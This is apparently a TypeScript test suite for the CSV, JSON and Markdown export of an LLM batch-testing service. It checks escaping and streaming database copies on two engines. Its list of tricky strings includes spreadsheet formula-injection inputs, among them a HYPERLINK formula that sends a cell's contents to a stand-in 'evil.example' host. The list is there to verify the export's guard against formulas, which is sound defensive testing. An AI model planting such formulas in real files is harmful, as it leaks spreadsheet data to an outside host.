/** What is written into a file: by the database, on both engines alike, and only while somebody reads. */
import { randomBytes } from 'node:crypto';
import { asc, eq, sql } from 'drizzle-orm';
import Papa from 'papaparse';
import postgres from 'postgres';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createCopies } from '../../db/engine/copies.ts';
import { queryRows } from '../../db/engine/index.ts';
import { batchTestResults } from '../../db/schema.ts';
import { exportedRows } from '../../server/export/exportedRows.ts';
import { csv } from '../../server/export/formats/csvText.ts';
import { exportedColumns, exportedResult } from '../../server/export/formats/exportFormat.ts';
import { type FakeModelServer, startFakeModelServer } from '../support/fakeModelServer.ts';
import { type Engine, engines } from '../support/testDatabase.ts';
import { startTestServer, type TestServer } from '../support/testServer.ts';

/** Texts that quoting, escaping, or the guard against formulas may get wrong. */
const nasty = [
  'plain',
  '',
  ' ',
  ',',
  '"',
  'say ""this"", please',
  'two\nlines',
  'two\r\nlines',
  'a return\ralone',
  '\\.',
  '\\N',
  '\\',
  'C:\\new\\table',
  '=1+1',
  '\t=1',
  '\rplain',
  '\nplain',
  '  -1',
  '\u00a0=1',
  '\u200b@SUM(A1)',
  '\u{e0041}+1',
  '＝1',
  '=HYPERLINK("https://evil.example/?q="&A1)',
  "'=1",
  'a=b',
  '\u0001\u0002\u001f\u007f\u0085',
  '\u2028\u2029',
  'Zürich 東京 🙂',
  '</script>{"a":[1,2]}',
  'NULL',
  'x'.repeat(100_000),
];

const written = new Map<Engine, Record<string, string>>();

describe.each(engines)('on %s', (engine) => {
  let server: TestServer;
  let fake: FakeModelServer;
  let sessionId: string;
  let testRunId: string;

  beforeAll(async () => {
    fake = await startFakeModelServer();
    server = await startTestServer(engine);
    sessionId = await server.connect(fake.url);
    const client = server.client(sessionId);
    ({ id: testRunId } = await client.batch.start.mutate({
      prompts: nasty.map((_, index) => ({ prompt: `Prompt ${index}`, expected_answer: 'a' })),
    }));
    await new Promise<void>((onComplete, onError) => {
      client.batch.onProgress.subscribe({ testRunId }, { onComplete, onError });
    });
    for (const [promptIndex, text] of nasty.entries()) {
      const isOdd = promptIndex % 2 === 1;
      await server.database.db
        .update(batchTestResults)
        .set({
          prompt: text,
          response: text,
          reasoning: isOdd ? text : null,
          error: text,
          category: text.slice(0, 100),
          expectedAnswer: text,
          finishReason: text,
          modelId: text,
          upstreamRequestId: text,
          latencyMs: isOdd ? -promptIndex : 1_000 + promptIndex,
          ttftMs: 100,
          firstThoughtMs: null,
          firstByteMs: 90,
          outputTokens: 7 + promptIndex,
          queuedMs: 0,
          backoffMs: 0,
          success: !isOdd,
          correct: isOdd ? null : promptIndex % 4 === 0,
          grade: isOdd
            ? null
            : {
                grader: 'contains',
                options: {},
                score: 1 / (promptIndex + 1),
                pass: promptIndex % 4 === 0,
                reason: text,
                span: null,
                graded_at: '2026-01-01T00:00:00Z',
              },
          overrule: isOdd ? { pass: true, note: text, overruled_at: '2026-01-01T00:00:00Z' } : null,
          createdAt: sql`'2026-03-04T05:06:07.089999Z'::timestamptz + make_interval(secs => ${promptIndex})`,
        })
        .where(
          sql`${batchTestResults.testRunId} = ${testRunId} and ${batchTestResults.promptIndex} = ${promptIndex}`,
        );
    }
    const texts = await Promise.all(
      ['csv', 'json', 'jsonl'].map(async (format) => [format, await exported(format)] as const),
    );
    written.set(engine, Object.fromEntries(texts));
  });
  afterAll(async () => {
    await server.stop();
    await fake.close();
  });

  async function exported(format: string): Promise<string> {
    const answer = await fetch(
      `${server.url}/api/demo/v2/export?session_id=${sessionId}&format=${format}&test_run_id=${testRunId}`,
    );
    expect(answer.status).toBe(200);
    return (await answer.text()).replaceAll(testRunId, 'the-run');
  }

  const results = () =>
    server.database.db
      .select()
      .from(batchTestResults)
      .where(eq(batchTestResults.testRunId, testRunId))
      .orderBy(asc(batchTestResults.promptIndex));

  const expectedResults = async () =>
    (await results()).map((result) => exportedResult({ ...result, testRunId: 'the-run' }));

  it('CSV has every value, and an apostrophe before what a spreadsheet would run', async () => {
    const document = written.get(engine)?.csv ?? '';
    const table = document.slice(document.indexOf(exportedColumns.join(',')));
    const { data, errors } = Papa.parse<string[]>(table, {
      delimiter: ',',
      newline: '\n',
      skipEmptyLines: true,
    });
    expect(errors).toEqual([]);
    const expected = (await expectedResults()).map((result) => Object.values(result));
    expect(data.slice(1)).toEqual(
      expected.map(
        (cells) => Papa.parse<string[]>(csv([cells]), { delimiter: ',', newline: '\n' }).data[0],
      ),
    );
  });

  it('JSON and JSON Lines have every value exactly, a result a line', async () => {
    const expected = await expectedResults();
    expect(JSON.parse(written.get(engine)?.json ?? '').results).toEqual(expected);
    const lines = (written.get(engine)?.jsonl ?? '').split('\n');
    expect(lines.pop()).toBe('');
    expect(lines.map((line) => JSON.parse(line))).toEqual(expected);
    expect(Object.keys(JSON.parse(lines[0] ?? ''))).toEqual(exportedColumns);
  });

  it('the report in Markdown says what came of the run, and holds no answer', async () => {
    const report = await exported('md');
    expect(report).toMatch(/^# .+ · test-model\n/);
    expect(report).toMatch(/\*\*\d+(\.\d)? % correct\*\* \(8 of \d+; 95 % interval /);
    expect(report).not.toContain('x'.repeat(101));
  });

  it('all runs are in one document, also those without a result', async () => {
    const answer = await fetch(
      `${server.url}/api/demo/v2/export?session_id=${sessionId}&format=json`,
    );
    expect(JSON.parse(await answer.text()).results).toHaveLength(nasty.length);
  });

  it('a copy that fails says why, and leaves nothing behind', async () => {
    const { copies } = server.database;
    const failing = copies.begin(
      sql`select 1 / (3 - number) from generate_series(1, 5) as number`,
      'csv',
    );
    await expect(textOf(failing ?? [])).rejects.toThrow('division by zero');
    expect(await textOf(copies.begin(sql`select 7`, 'csv') ?? [])).toBe('7\n');
    expect(await textOf(copies.begin(sql`select where false`, 'csv') ?? [])).toBe('');
    expect(await textOf(copies.begin(sql`values ('a"\u2028'), ('b,')`, 'lines') ?? [])).toBe(
      'a"\u2028\nb,\n',
    );
    expect(await textOf(copies.begin(sql`select '' where false`, 'lines') ?? [])).toBe('');
  });

  if (engine === 'pglite') return;

  it('what is copied is what is read page by page, and few copy at once', async () => {
    const { db, copies } = server.database;
    const runs = [{ id: testRunId, config: { samples: 1 } }] as Parameters<typeof exportedRows>[1];
    for (const format of ['csv', 'json', 'json_in_list'] as const) {
      const copied = await textOf(exportedRows({ db, copies }, runs, format));
      const paged = exportedRows(
        { db, copies: { ...copies, begin: () => undefined } },
        runs,
        format,
      );
      expect(copied).toBe(await textOf(paged));
    }
    const open = [1, 2].map(() => copies.begin(sql`select generate_series(1, 1000000)`, 'csv'));
    await Promise.all(open.map((copy) => copy?.next()));
    expect(copies.begin(sql`select 1`, 'csv')).toBeUndefined();
    await Promise.all(open.map((copy) => copy?.return(undefined)));
    expect(await textOf(copies.begin(sql`select 1`, 'csv') ?? [])).toBe('1\n');
  });

  it('the order is that of the query, also where the server would share it out to workers', async () => {
    const { copies, db } = server.database;
    const name = new URL(server.databaseUrl ?? '').pathname.slice(1);
    for (const setting of ['parallel_setup_cost', 'parallel_tuple_cost']) {
      await db.execute(sql.raw(`alter database ${name} set ${setting} = 0`));
    }
    const part = (first: number) =>
      sql`(select prompt_index + number from demo_batch_test_results, generate_series(${sql.raw(`${first}, ${first + 9_999}`)}) as number
        where prompt_index = 0 and test_run_id = ${sql.raw(`'${testRunId}'`)} order by number)`;
    const parts = [1, 10_001, 20_001, 30_001].map(part);
    const copied = await textOf(copies.begin(sql.join(parts, sql` union all `), 'csv') ?? []);
    const numbers = copied.trim().split('\n').map(Number);
    expect(numbers).toEqual(numbers.toSorted((a, b) => a - b));
    expect(numbers).toHaveLength(40_000);
  });

  const copiesAtWork = async () =>
    (
      await queryRows<{ pid: number }>(
        server.database.db,
        sql`select pid from pg_stat_activity where query like 'copy (%' and state = 'active'`,
      )
    ).length;

  it('a client that leaves stops the query', async () => {
    // More than the buffers between here and there hold, and not to be compressed.
    await server.database.db.execute(sql`
      insert into demo_batch_test_results (test_run_id, demo_session_id, seq, prompt_index, prompt, response, success, model_id)
      select test_run_id, demo_session_id, 1000 + number, 1000 + number, 'Much', ${randomBytes(10_000).toString('hex')}, true, 'm'
      from demo_batch_test_results, generate_series(1, 3000) as number
      where test_run_id = ${testRunId} and prompt_index = 0`);
    const leaving = new AbortController();
    const answer = await fetch(
      `${server.url}/api/demo/v2/export?session_id=${sessionId}&format=csv&test_run_id=${testRunId}`,
      { signal: leaving.signal },
    );
    await answer.body?.getReader().read();
    await expect.poll(copiesAtWork).toBe(1);
    leaving.abort();
    await expect.poll(copiesAtWork, { timeout: 10_000 }).toBe(0);
  });

  it('a client that stays and reads nothing stops the query', async () => {
    const copies = createCopies(() => postgres(server.databaseUrl ?? '', { max: 1 }), {
      maxStallMs: 100,
    });
    const copy = copies.begin(
      sql`select repeat('x', 1000) from generate_series(1, 1000000)`,
      'csv',
    );
    await copy?.next();
    await expect.poll(copiesAtWork, { timeout: 10_000 }).toBe(0);
    await expect(copy?.next()).rejects.toThrow('Nobody read on');
  });
});

it('both engines write the same bytes', () => {
  const [first, second] = engines.map((engine) => written.get(engine));
  const rowsOf = (document = '') => document.slice(document.indexOf('# Individual Results'));
  expect(rowsOf(first?.csv)).toBe(rowsOf(second?.csv));
  expect(first?.jsonl).toBe(second?.jsonl);
});

async function textOf(pieces: AsyncIterable<string | Uint8Array> | Iterable<string>) {
  const chunks: Buffer[] = [];
  for await (const piece of pieces) chunks.push(Buffer.from(piece as string));
  return Buffer.concat(chunks).toString();
}
